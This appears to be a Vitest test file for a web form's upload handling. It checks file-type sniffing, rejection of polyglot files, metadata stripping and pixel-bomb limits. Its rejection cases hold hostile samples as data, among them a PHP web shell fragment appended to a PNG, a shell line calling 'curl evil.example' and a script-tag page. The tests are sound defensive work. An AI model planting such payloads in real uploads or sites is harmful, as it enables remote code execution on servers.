import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { shareFormServer } from '../http/testing/form-server.ts';

const form = shareFormServer();

const base = { width: 60, height: 30, channels: 3, background: 'red' } as const;

async function draw(format: 'png' | 'jpeg' | 'gif' | 'webp' | 'tiff'): Promise<Buffer> {
  return await sharp({ create: base }).toFormat(format).toBuffer();
}

async function send(content: Buffer, given: { field?: string; fileName?: string } = {}) {
  const { field = 'Photo', fileName = 'me.png' } = given;
  const file = { name: field, fileName, content, type: 'image/png' };
  return await form().send([{ name: 'Email', content: 'keep@x.ie' }, file]);
}

/** Reads the stored content of the one file that was sent. */
async function readKept(): Promise<Buffer> {
  const [file] = form().seen();
  const stored = await form().files.read(file?.key ?? '');
  const chunks: Uint8Array[] = [];
  for await (const chunk of stored?.content ?? []) chunks.push(chunk);
  expect(file?.bytes).toBe(Buffer.concat(chunks).length);
  return Buffer.concat(chunks);
}

/** A picture of one grey, so large that it is small only while it is packed. */
function pngOf(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * Math.min(height, 300));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('what a file is', () => {
  it.each([
    ['png', 'image/png'],
    ['jpeg', 'image/jpeg'],
  ] as const)('is read from its bytes: %s under any name', async (format, mediaType) => {
    expect((await send(await draw(format), { fileName: 'letter.docx' })).status).toBe(200);
    expect(form().seen()).toMatchObject([{ name: 'letter.docx', mediaType }]);
    expect((await sharp(await readKept()).metadata()).format).toBe(format);
  });

  it.each<[string, () => Promise<Buffer>]>([
    ['a script', async () => Buffer.from('#!/bin/sh\ncurl evil.example\n')],
    ['a page', async () => Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['a drawing', async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['a gif', async () => await draw('gif')],
    ['a webp', async () => await draw('webp')],
    ['a tiff', async () => await draw('tiff')],
    ['a PDF where pictures are asked for', async () => Buffer.from('%PDF-1.7\n%%EOF')],
    ['three bytes', async () => Buffer.from('\x89PN', 'latin1')],
    ['a picture and a page', async () => await followedBy('\n<HTML><body>')],
    ['a picture and a script', async () => await followedBy('<?php system($_GET[0]);')],
    ['a picture and a PDF', async () => await followedBy('%PDF-1.4\n%%EOF')],
    ['a picture and an archive', async () => await followedBy(`PK\x05\x06${'\0'.repeat(18)}`)],
  ])('is not %s', async (_what, make) => {
    expect(await send(await make())).toMatchObject({
      status: 400,
      body: { fields: [{ field: 'Photo', code: 'file.type_not_allowed' }] },
    });
    expect(await form().countFiles()).toBe(0);
  });

  it.each<[string, Buffer]>([
    ['a PDF without an end', Buffer.from('%PDF-1.7\n1 0 obj')],
    ['a page before a PDF', Buffer.from('<html>%PDF-1.7\n%%EOF')],
    ['a PDF and an archive', Buffer.from(`%PDF-1.7\n%%EOF\nPK\x05\x06${'\0'.repeat(18)}`)],
  ])('is not %s', async (_what, content) => {
    const { body } = await send(content, { field: 'Papers' });
    expect(body.fields).toMatchObject([{ field: 'Papers', code: 'file.type_not_allowed' }]);
    expect(await form().countFiles()).toBe(0);
  });

  it('is known although its foreign part lies across two chunks', async () => {
    const noise = Buffer.alloc(40_000, 7);
    for (let shift = 0; shift < 9; shift += 1) {
      const content = Buffer.concat([
        await draw('png'),
        noise.subarray(shift),
        Buffer.from('<?php '),
      ]);
      expect((await send(content)).body.fields).toMatchObject([{ code: 'file.type_not_allowed' }]);
    }
  });
});

async function followedBy(text: string): Promise<Buffer> {
  return Buffer.concat([await draw('png'), Buffer.from(text, 'latin1')]);
}

describe('a picture', () => {
  it('is written anew: nothing of its metadata, and nothing behind its end', async () => {
    const sent = await sharp({ create: base })
      .jpeg()
      .withExif({ IFD0: { Copyright: 'secret place' }, IFD3: { GPSLatitude: '53/1 20/1 0/1' } })
      .toBuffer();
    expect((await sharp(sent).metadata()).exif).toBeDefined();
    await send(Buffer.concat([sent, Buffer.from('trailing secret')]));
    const kept = await readKept();
    const { exif, xmp, iptc } = await sharp(kept).metadata();
    expect([exif, xmp, iptc]).toEqual([undefined, undefined, undefined]);
    expect(kept.includes('secret')).toBe(false);
    expect(await form().countFiles()).toBe(1);
  });

  it('stands upright when the camera was held sideways', async () => {
    await send(await sharp({ create: base }).jpeg().withMetadata({ orientation: 6 }).toBuffer());
    expect(await sharp(await readKept()).metadata()).toMatchObject({ width: 30, height: 60 });
  });

  it('has at most 4000 pixels a side', async () => {
    const create = { ...base, width: 8000, height: 1000 };
    await send(await sharp({ create }).jpeg({ quality: 1 }).toBuffer());
    expect(await sharp(await readKept()).metadata()).toMatchObject({ width: 4000, height: 500 });
  });

  it.each([
    ['30,000 by 30,000 pixels', 30_000, 30_000],
    ['a pixel more than 40 million', 40_000_001, 1],
  ])('of %s is refused undecoded', async (_what, width, height) => {
    const { status, body } = await send(pngOf(width, height));
    expect([status, body.fields]).toEqual([
      400,
      [{ field: 'Photo', code: 'file.too_many_pixels', parameters: {} }],
    ]);
    expect(await form().countFiles()).toBe(0);
  });

  it.each<[string, (png: Buffer) => Buffer]>([
    ['half of it', (png) => png.subarray(0, png.length / 2)],
    ['its signature alone', (png) => png.subarray(0, 8)],
    [
      'noise behind its signature',
      (png) => Buffer.concat([png.subarray(0, 8), Buffer.alloc(500, 9)]),
    ],
  ])('of which there is %s is refused', async (_what, spoil) => {
    const { body } = await send(spoil(await draw('png')));
    expect(body.fields).toEqual([{ field: 'Photo', code: 'file.unreadable', parameters: {} }]);
    expect(await form().countFiles()).toBe(0);
  });

  it('is decoded while others wait, and each comes out as itself', async () => {
    const sizes = [10, 20, 30, 40];
    const sent = await Promise.all(
      sizes.map(
        async (width) =>
          await sharp({ create: { ...base, width } })
            .png()
            .toBuffer(),
      ),
    );
    const answers = await Promise.all(sent.map(async (content) => await send(content)));
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
    expect(await form().countFiles()).toBe(4);
  });
});
